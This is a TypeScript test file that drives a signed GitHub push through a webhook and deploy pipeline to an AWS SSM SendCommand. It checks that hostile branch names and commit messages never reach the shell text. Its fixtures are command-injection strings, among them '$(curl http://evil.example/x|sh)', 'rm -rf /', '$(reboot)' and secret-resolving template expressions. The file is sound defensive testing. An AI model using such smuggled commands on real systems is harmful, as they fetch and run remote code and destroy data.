/**
 * Branch names and commit messages full of shell metacharacters never reach an SSM command's text.
 * The path is driven end to end: a signed push with a hostile branch and message goes through the
 * webhook, its StartExecution input runs the real pipeline and deploy-ssm ASL on the local engine,
 * and the real ssm-deploy function sends the release (SSM mocked). SendCommand must carry only
 * values that match the document's allowedPatterns, all derived from the configuration and the
 * commit sha, and the document must reach them only as environment variables.
 */
import { SendCommandCommand, SSMClient, type SendCommandCommandInput } from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseYaml } from 'yaml';
import { signDelivery } from '../../events/sign-delivery';
import { findPipeline, loadConfig } from '../../functions/commons/config/load-config';
import type { PipelineInput } from '../../functions/commons/types/pipeline-input';
import { handleWebhook } from '../../functions/github-webhook/handle-webhook';
import { normaliseHeaders } from '../../functions/github-webhook/read-request';
import { validateRoutes } from '../../functions/github-webhook/routes';
import { testLogger } from '../github-webhook/support';
import { fakeResources } from '../../bench/support/pipeline-harness';
import { MemoryStepFunctions } from '../../bench/support/memory-sfn';
import { runRelease, type ReleaseRun } from './support/release-world';

const SECRET = 'evidence-shell-secret-91c4';
const DOCUMENT_NAME = 'deploy-controller-release-systemd-service';
const settings = findPipeline(loadConfig(), 'microblog');
const ssmMock = mockClient(SSMClient);

interface DocumentParameter {
  type: string;
  allowedPattern?: string;
  interpolationType?: string;
}
const documentText = readFileSync(
  join(__dirname, '..', '..', 'ssm-documents', 'release-systemd-service.yaml'),
  'utf8',
);
const document = parseYaml(documentText) as {
  parameters: Record<string, DocumentParameter>;
  mainSteps: { inputs: { runCommand: string[] } }[];
};

/** Characters a shell treats specially; none may appear in a value SSM passes to the script. */
const SHELL_META = /[\s;|&$`'"<>(){}\\*?!~#[\]^%=,]/;

beforeAll(() => {
  process.env.SSM_DOCUMENT_NAME = DOCUMENT_NAME;
});

afterAll(() => {
  delete process.env.SSM_DOCUMENT_NAME;
});

beforeEach(() => {
  ssmMock.reset();
  ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: '0b6c7d5e-1f2a-4b3c-8d9e-0a1b2c3d4e5f' } });
});

interface Driven {
  status: number;
  input: PipelineInput;
  run: ReleaseRun;
  sendCommand: SendCommandCommandInput;
}

const ROUTES = validateRoutes([
  {
    pipeline: 'microblog',
    repository: 'example-org/microblog',
    branch: 'main',
    stateMachineArn: 'arn:aws:states:eu-west-1:123456789012:stateMachine:deploy-microblog',
  },
]);

/** Sends a signed push for `branch` through the webhook; returns the answer and what it started. */
async function push(branch: string, message: string, commitSha: string) {
  const sfn = new MemoryStepFunctions();
  const delivery = signDelivery('push-microblog-main', {
    secret: SECRET,
    sha: commitSha,
    message,
    edit: (body) => {
      body.ref = `refs/heads/${branch}`;
    },
  });
  const response = await handleWebhook(
    {
      method: 'POST',
      path: '/webhooks/github',
      headers: normaliseHeaders(delivery.headers),
      body: Buffer.from(delivery.body),
    },
    {
      routes: ROUTES,
      sfn: sfn.client(),
      logger: testLogger(),
      secret: { get: async () => SECRET, ageMs: () => 0 },
    },
  );
  return { response, executions: [...sfn.executions.values()] };
}

/**
 * Push -> webhook -> StartExecution input -> pipeline + deploy-ssm ASL -> ssm-deploy -> SendCommand.
 * The webhook only starts configured branches (and the route and config rules refuse hostile ones),
 * so a hostile `branch` is written into the started input afterwards: the ASL and ssm-deploy must
 * ignore it even if a future rule let one through.
 */
async function drive(
  branch: string,
  message: string,
  commitSha: string,
): Promise<Driven | { status: number; ignored: true }> {
  const { response, executions } = await push('main', message, commitSha);
  const [execution] = executions;
  if (!execution) return { status: response.statusCode, ignored: true };
  const input = { ...(JSON.parse(execution.input) as PipelineInput), branch, ref: `refs/heads/${branch}` };
  const run = await runRelease(settings, input, new SSMClient({ region: 'eu-west-1' }));
  const calls = ssmMock.commandCalls(SendCommandCommand);
  if (calls.length !== 1)
    throw new Error(
      `expected one SendCommand, got ${calls.length} (execution ${run.status} ${run.error ?? ''} ${run.cause ?? ''})`,
    );
  return { status: response.statusCode, input, run, sendCommand: calls[0]!.args[0].input };
}

/** Everything the assertions below demand of one driven push. */
function expectSafe(driven: Driven, branch: string, message: string, commitSha: string): void {
  const { input, run, sendCommand } = driven;
  // The hostile values did travel: the execution input holds them as data.
  expect(driven.status).toBe(202);
  expect(input.branch).toBe(branch);
  expect(input.commitMessage).toBe(message.trim().slice(0, 1000));
  expect(run.status).toBe('SUCCEEDED');

  // SendCommand: the project's document, by tag, with exactly the document's parameters.
  expect(sendCommand.DocumentName).toBe(DOCUMENT_NAME);
  expect(sendCommand.Targets).toEqual([{ Key: 'tag:App', Values: ['microblog'] }]);
  const parameters = sendCommand.Parameters ?? {};
  for (const [name, values] of Object.entries(parameters)) {
    const declared = document.parameters[name];
    expect(declared).toBeDefined();
    expect(declared!.interpolationType).toBe('ENV_VAR');
    expect(values).toHaveLength(1);
    expect(values[0]).toMatch(new RegExp(declared!.allowedPattern!));
    // healthUrl needs ':' and '/', nothing here needs a shell metacharacter.
    expect(values[0]).not.toMatch(SHELL_META);
  }
  if (settings.target.kind !== 'ec2-ssm') throw new Error('microblog deploys through SSM');
  expect(parameters).toEqual({
    action: ['release'],
    commitSha: [commitSha],
    artifactBucket: [fakeResources.artifactsBucket],
    artifactKey: [expect.stringMatching(new RegExp(`^microblog/${commitSha}/[A-Za-z0-9._-]+$`))],
    serviceName: [settings.target.service],
    appDirectory: [settings.target.appDirectory],
    healthUrl: [settings.target.healthUrl],
    pythonVersion: [settings.build.pythonVersion],
    // microblog's release steps, from pipelines.yaml (target.release), never from the push
    releaseEnvironment: ['FLASK_APP:microblog.py'],
    releaseCommands: ['flask+db+upgrade:flask+translate+compile'],
  });
  // Nothing else in the request carries them either (the comment is shown in the console).
  const request = JSON.stringify(sendCommand);
  if (branch.length >= 3) expect(request).not.toContain(JSON.stringify(branch).slice(1, -1));
  expect(sendCommand.Comment).toBe(`microblog release ${commitSha.slice(0, 12)}`);

  // ssm-deploy and CodeBuild get the sha and the artifact, never the branch or the message.
  for (const call of run.lambdaCalls.filter((c) => c.fn === 'ssm-deploy')) {
    expect(Object.keys(call.payload).sort()).toEqual(expect.arrayContaining(['action', 'pipeline']));
    expect(JSON.stringify(call.payload)).not.toContain('commitMessage');
    expect(JSON.stringify(call.payload)).not.toContain('"branch"');
  }
  for (const build of run.builds) {
    expect(build.SourceVersion).toBe(commitSha);
    for (const variable of build.EnvironmentVariablesOverride) expect(variable.Value).not.toMatch(SHELL_META);
  }
}

describe('the SSM document reaches parameters only through environment variables', () => {
  test('every parameter SendCommand may set is ENV_VAR-interpolated with an allowedPattern', () => {
    const sent = [
      'action',
      'commitSha',
      'artifactBucket',
      'artifactKey',
      'serviceName',
      'appDirectory',
      'healthUrl',
      'pythonVersion',
    ];
    for (const name of sent) {
      expect(document.parameters[name]).toMatchObject({
        type: 'String',
        interpolationType: 'ENV_VAR',
        allowedPattern: expect.stringMatching(/^\^.*\$$/),
      });
    }
  });

  test('the shell text has no {{ }} interpolation at all; the only one in the file is the timeout number', () => {
    const shell = document.mainSteps.flatMap((step) => step.inputs.runCommand).join('\n');
    expect(shell).not.toMatch(/\{\{/);
    const interpolations = [
      ...documentText.replace(/^\s*#.*$/gm, '').matchAll(/\{\{\s*([^}\s]+)\s*\}\}/g),
    ].map((m) => m[1]);
    expect(interpolations).toEqual(['executionTimeout']);
    expect(document.parameters.executionTimeout?.allowedPattern).toBe('^[0-9]{2,4}$');
  });
});

describe('hostile branch names stop at the webhook', () => {
  const branches = [
    'main$(reboot)',
    'feat/`id`',
    'a;b|c&d',
    'x\'"<>{a,b}',
    'main;',
    'main\nx',
    'main ',
    '-main',
    'release/$((1+1))',
  ];

  test.each(branches)('a signed push to %j starts nothing (202 ignored)', async (branch) => {
    const { response, executions } = await push(
      branch,
      'a normal message',
      '3f5a7b9c1d3e5f7a9b1c3d5e7f9a1b3c5d7e9f1a',
    );
    expect(response.statusCode).toBe(202);
    expect(JSON.parse(response.body)).toMatchObject({ status: 'ignored' });
    expect(executions).toEqual([]);
  });

  test.each(branches.filter((b) => SHELL_META.test(b)))(
    'a route for %j is refused when the webhook reads its routes',
    (branch) => {
      expect(() =>
        validateRoutes([
          {
            pipeline: 'microblog',
            repository: 'example-org/microblog',
            branch,
            stateMachineArn: 'arn:aws:states:eu-west-1:123456789012:stateMachine:deploy-microblog',
          },
        ]),
      ).toThrow(/branch must be a branch name/);
    },
  );
});

describe('hostile branch names and commit messages, from push to SendCommand', () => {
  const cases: [string, string][] = [
    ['main$(reboot)', 'Fix "quotes" $(curl http://evil.example/x|sh) `id`; rm -rf / && echo pwned'],
    ['feat/`touch${IFS}/tmp/p`', "it's; DROP TABLE users; --\n\n$(whoami)"],
    ['a;b|c&d', '{{ commitSha }} {{ssm:/secret}} {{ resolve:secretsmanager:x }}'],
    ['x\'"<>{a,b}', 'line1\nline2\r\n\u0000\u001b[31mred\u001b[0m $HOME ${PATH}'],
    ['release/$((1+1))', `${'$('.repeat(300)}a${')'.repeat(300)}`],
  ];

  test.each(cases)('branch %j with a hostile message', async (branch, message) => {
    const sha = '3f5a7b9c1d3e5f7a9b1c3d5e7f9a1b3c5d7e9f1a';
    const driven = await drive(branch, message, sha);
    if ('ignored' in driven) throw new Error(`the webhook did not start the pipeline (${driven.status})`);
    expectSafe(driven, branch, message, sha);
  });

  test('property: any git-legal branch with metacharacters and any message', async () => {
    // Git refuses spaces, control characters and ~^:?*[\ in branch names; everything else is fair game.
    const branchChar = fc.constantFrom(...'abcXYZ019._/-$();|&`\'"<>{}!#%=,+@'.split(''));
    const branch = fc
      .array(branchChar, { minLength: 1, maxLength: 40 })
      .map((cs) => cs.join(''))
      .filter((b) => !/^[/.]|\.\.|\/\/|\/$|\.lock$|@\{|^@$/.test(b));
    const message = fc.oneof(
      fc.string({ maxLength: 300 }),
      fc.string({ maxLength: 300, unit: 'grapheme' }),
      fc.constantFrom('$(reboot)', '`id`', '; curl x | sh', '{{ action }}'),
    );
    const sha = fc.stringMatching(/^[0-9a-f]{40}$/);
    await fc.assert(
      fc.asyncProperty(branch, message, sha, async (b, m, s) => {
        ssmMock.reset();
        ssmMock
          .on(SendCommandCommand)
          .resolves({ Command: { CommandId: '0b6c7d5e-1f2a-4b3c-8d9e-0a1b2c3d4e5f' } });
        const driven = await drive(b, m, s);
        // A [skip ci]-style marker or an empty message can legitimately stop the push at the webhook.
        if ('ignored' in driven) {
          expect(driven.status).toBeLessThan(500);
          return;
        }
        expectSafe(driven, b, m, s);
      }),
      { numRuns: 40 },
    );
  });
});
